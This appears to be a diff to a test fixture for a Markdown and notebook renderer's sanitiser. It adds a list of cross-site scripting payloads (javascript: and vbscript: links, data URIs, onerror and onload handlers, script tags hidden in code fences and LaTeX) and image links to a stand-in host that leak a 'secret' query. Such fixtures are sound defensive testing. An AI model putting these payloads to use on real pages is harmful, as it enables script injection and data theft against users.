@@ -103,6 +103,33 @@ _HIDDEN = [
     "Z\u0335\u0321\u0353" * 40,
 ]
 
-PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_LOADS, *_LINKS, *MATHS, *_NOTEBOOK, *_TEMPLATES, *_HIDDEN]
-HARMLESS = ["plain words"] * len(PAYLOADS)
+MARKDOWN = [
+    f"[click]( javascript:{GOT_IN} )",
+    f"[click](JaVaScRiPt:{GOT_IN})",
+    f"[click](<javascript:{GOT_IN}>)",
+    f"[click](vbscript:{GOT_IN})",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](//evil.invalid/x) [click](/api/kernels) [click](files/x.html)",
+    f"[click][r]\n\n[r]: javascript:{GOT_IN}",
+    f'[click]({EVIL} "x" onmouseover="{GOT_IN}")',
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoKT4=)",
+    f"![x]({EVIL}/p.png?q=secret)![y](//evil.invalid/q.png)",
+    f"[![x]({EVIL}/p.png)](javascript:{GOT_IN})",
+    f"# <img src=x onerror={GOT_IN}>\n\n| <svg onload={GOT_IN}> |\n|---|\n| ![x]({EVIL}/t.png) |",
+    f"```html\n<script>{GOT_IN}</script>\n```",
+    f'```"><script>{GOT_IN}</script>\nx\n```',
+    f"    <img src=x onerror={GOT_IN}>",
+    f"$\\text{{<img src=x onerror={GOT_IN}>}}$ and $$<script>{GOT_IN}</script>$$",
+    f"$\\href{{{EVIL}}}{{x}}$ $\\includegraphics{{{EVIL}/i.png}}$ $\\style{{background:url({EVIL})}}{{x}}$",
+    f"`<script>{GOT_IN}</script>` **<b onclick={GOT_IN}>x</b>** <!-- {EVIL} --> <?php ?> <![CDATA[<svg/onload={GOT_IN}>]]>",
+]
+"""Markdown that a careless renderer makes something of."""
+
+PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_LOADS, *_LINKS, *MATHS, *_NOTEBOOK, *_TEMPLATES, *_HIDDEN, *MARKDOWN]
+_ORDINARY = (
+    "plain words, **bold**, *italic*, `code`, a [link](https://example.org) and $y^2 = x_1^2 = \\frac{a}{b} \\text{c}$\n\n# One\n\n## Two\n\n### Three\n\n"
+    "| a | b |\n|--:|---|\n| 1 | 2 |\n\n```python\ndef f(): return 'x', 1 # why\n```\n\n- one\n\n1. two\n\n> said\n\n---\n\nline\nline ~~gone~~"
+)
+"""What an answer is drawn with: no hostile text may make more of it."""
+HARMLESS = [_ORDINARY] * len(PAYLOADS)
 assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
